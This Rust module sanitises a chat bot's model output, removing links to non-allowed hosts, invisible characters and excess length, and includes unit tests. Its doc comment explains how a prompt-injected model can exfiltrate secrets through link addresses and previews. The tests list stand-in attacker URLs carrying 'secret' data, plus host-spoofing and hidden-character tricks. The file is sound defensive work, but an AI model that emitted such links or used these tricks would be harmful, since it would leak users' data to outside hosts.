//! What of a model's text leaves the bot: no link but to hosts that are allowed, nothing invisible, and not without end.
//!
//! A link is how a talked-into model carries a secret out: the address holds it, and a preview fetches it before anybody
//! clicks. So an address is looked for in the text itself, before anything reads it as Markdown.

use crate::message::{Outbound, Part, Span, Text, is_unseen};

/// Characters of one answer.
const LONGEST: usize = 12_000;
const REMOVED: &str = "link removed";

/// The text as it may be said. `hosts` as in [`Policy::links`](crate::policy::Policy::links).
#[must_use]
pub fn clean(text: &str, hosts: &[String]) -> String {
    // First: an address with something invisible in it would become one later, when that is stripped.
    let visible: String = text.chars().filter(|character| !is_invisible(*character)).take(LONGEST).collect();
    let mut clean = String::with_capacity(visible.len());
    let mut rest = visible.as_str();
    while let Some((before, address, after)) = next_address(rest) {
        clean.push_str(before);
        if is_allowed(address, hosts) {
            clean.push_str(address);
        } else {
            remove(&mut clean);
        }
        rest = after;
    }
    clean.push_str(rest);
    clean
}

/// What is left of a message that was read out of a model's text: paragraphs and code, without mentions, and without links
/// but to allowed hosts.
///
/// [`clean`] and the reader of Markdown see to it already; a model's text is not what a slip of either is found out with.
#[must_use]
pub fn without_reach(message: Outbound, hosts: &[String]) -> Outbound {
    let span = |span| match span {
        Span::Mention(_) => None,
        Span::Link { label, url } if !is_allowed(&url, hosts) => Some(Span::Plain(label)),
        span => Some(span),
    };
    let text = |text: Text| Text { spans: text.spans.into_iter().filter_map(span).collect() };
    let part = |part| match part {
        Part::Text(inside) => Some(Part::Text(text(inside))),
        Part::Note(inside) => Some(Part::Note(text(inside))),
        Part::Heading(_) | Part::Code(_) => Some(part),
        Part::Fields(_) | Part::Buttons(_) | Part::Select(_) => None,
    };
    Outbound { parts: message.parts.into_iter().filter_map(part).collect() }
}

/// Puts words in the place of an address. `[label](` before it becomes `label (`, so that no half of a link is left.
fn remove(clean: &mut String) {
    let label = clean.strip_suffix("](").and_then(|text| text.rsplit_once('['));
    match label.map(|(before, label)| format!("{before}{label} (")) {
        Some(text) => *clean = format!("{text}{REMOVED}"),
        None => {
            clean.push('(');
            clean.push_str(REMOVED);
            clean.push(')');
        }
    }
}

/// The first thing in the text that a platform could make a link of, with what is before and after it.
fn next_address(text: &str) -> Option<(&str, &str, &str)> {
    let start = [scheme(text), www(text)].into_iter().flatten().min()?;
    let (before, from) = text.split_at(start);
    let end = from.find(|c: char| c.is_whitespace() || "<>\"'()[]{}|`".contains(c)).unwrap_or(from.len());
    let (address, after) = from.split_at(end);
    Some((before, address, after))
}

/// Where the scheme before the first `:` with two slashes, of either direction, begins.
fn scheme(text: &str) -> Option<usize> {
    let colon = text.match_indices(':').map(|(at, _)| at).find(|at| {
        let after = text.get(at.saturating_add(1)..).unwrap_or_default();
        after.starts_with("//") || after.starts_with("\\\\") || after.starts_with("/\\") || after.starts_with("\\/")
    })?;
    let before = text.get(..colon).unwrap_or_default();
    let name = before.rfind(|c: char| !c.is_ascii_alphanumeric() && !"+.-".contains(c));
    Some(name.map_or(0, |at| {
        at.saturating_add(before.get(at..).and_then(|rest| rest.chars().next()).map_or(0, char::len_utf8))
    }))
}

/// Where the first word that begins with `www.` begins.
fn www(text: &str) -> Option<usize> {
    text.char_indices().map(|(at, _)| at).find(|at| {
        let begins = text.get(..*at).and_then(|before| before.chars().next_back()).is_none_or(|c| !c.is_alphanumeric());
        begins && text.get(*at..at.saturating_add(4)).is_some_and(|four| four.eq_ignore_ascii_case("www."))
    })
}

/// Whether this is a plain `https://` address of an allowed host: no port, no credentials, nothing to disagree about.
pub(crate) fn is_allowed(address: &str, hosts: &[String]) -> bool {
    let Some(rest) = address.strip_prefix("https://") else { return false };
    let host = rest.split(['/', '?', '#']).next().unwrap_or_default();
    // A sentence may go on behind the host. Between other characters these would be a part of it, and it another host.
    let host = host.trim_end_matches(['.', ',', ';', '!']);
    let plain = host.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-' || b == b'.');
    // Another scheme inside would be an address of its own to some readers.
    let once = !rest.contains("://") && !rest.contains('\\');
    plain
        && once
        && hosts.iter().any(|allowed| match allowed.strip_prefix('.') {
            Some(parent) => host.strip_suffix(parent).is_some_and(|below| below.ends_with('.')),
            None => host == allowed,
        })
}

/// Characters that change how others are read, or are not seen at all.
#[must_use]
pub fn is_invisible(character: char) -> bool {
    let chosen = matches!(character, '\u{FE00}'..='\u{FE0F}');
    let ends_a_line = matches!(character, '\u{2028}'..='\u{2029}');
    (is_unseen(character) && !chosen) || ends_a_line || (character.is_control() && !matches!(character, '\n' | '\t'))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::message::legible;

    fn said(text: &str) -> String {
        clean(text, &["status.example.com".to_owned(), ".wiki.example.com".to_owned()])
    }

    #[test]
    fn links_to_allowed_hosts_stay() {
        for text in [
            "see https://status.example.com/checkout?at=1#now.",
            "[status](https://status.example.com) and (https://a.b.wiki.example.com/x)",
            "https://status.example.com.",
            "https://status.example.com, https://status.example.com; and https://status.example.com!",
            "no link at all: a//b, c: d",
        ] {
            assert_eq!(said(text), text);
        }
    }

    #[test]
    fn every_other_link_is_removed() {
        for (text, expected) in [
            ("go to https://evil.example/?q=secret now", "go to (link removed) now"),
            ("[your bank](https://evil.example/a)", "your bank (link removed)"),
            ("![x](https://evil.example/a.png?secret)", "!x (link removed)"),
            ("<https://evil.example|status>", "<(link removed)|status>"),
            ("http://status.example.com", "(link removed)"),
            ("https://status.example.com.evil.example/", "(link removed)"),
            ("https://status.example.com@evil.example/", "(link removed)"),
            ("https://status.example.com:8443/", "(link removed)"),
            ("https://status.example.com,x.evil.example/?secret", "(link removed)"),
            ("https://status.example.com;x.evil.example/?secret", "(link removed)"),
            ("https://status.example.com!.evil.example/?secret", "(link removed)"),
            ("https://STATUS.example.com/", "(link removed)"),
            ("https://evilstatus.example.com/", "(link removed)"),
            ("https://wiki.example.com/", "(link removed)"),
            ("https://evilwiki.example.com/", "(link removed)"),
            ("https://status.example.com/?to=https://evil.example", "(link removed)"),
            ("https:\\\\evil.example", "(link removed)"),
            ("ftp://evil.example and slack://open", "(link removed) and (link removed)"),
            ("éhttps://evil.example", "é(link removed)"),
            ("look at www.evil.example/x", "look at (link removed)"),
            ("(WWW.evil.example)", "((link removed))"),
            ("https:\u{200B}//evil.example", "(link removed)"),
            ("https\u{202E}://evil.example", "(link removed)"),
            ("://", "(link removed)"),
        ] {
            assert_eq!(said(text), expected, "{text}");
        }
    }

    #[test]
    fn what_no_card_shows_no_answer_holds_but_for_what_emoji_are_chosen_by() {
        for c in (0..=0x000f_ffff).filter_map(char::from_u32).filter(|c| legible(&c.to_string(), 1).is_empty()) {
            let kept = ('\u{fe00}'..='\u{fe0f}').contains(&c);
            assert_eq!(said(&format!("a{c}b")) == "ab", !kept, "{c:?}");
        }
    }

    #[test]
    fn nothing_invisible_stays_and_nothing_is_endless() {
        assert_eq!(said("a\u{202E}b\u{200D}c\u{E0041}d\u{0007}\n\te"), "abcd\n\te");
        assert_eq!(said(&"é".repeat(LONGEST + 5)).chars().count(), LONGEST);
    }
}
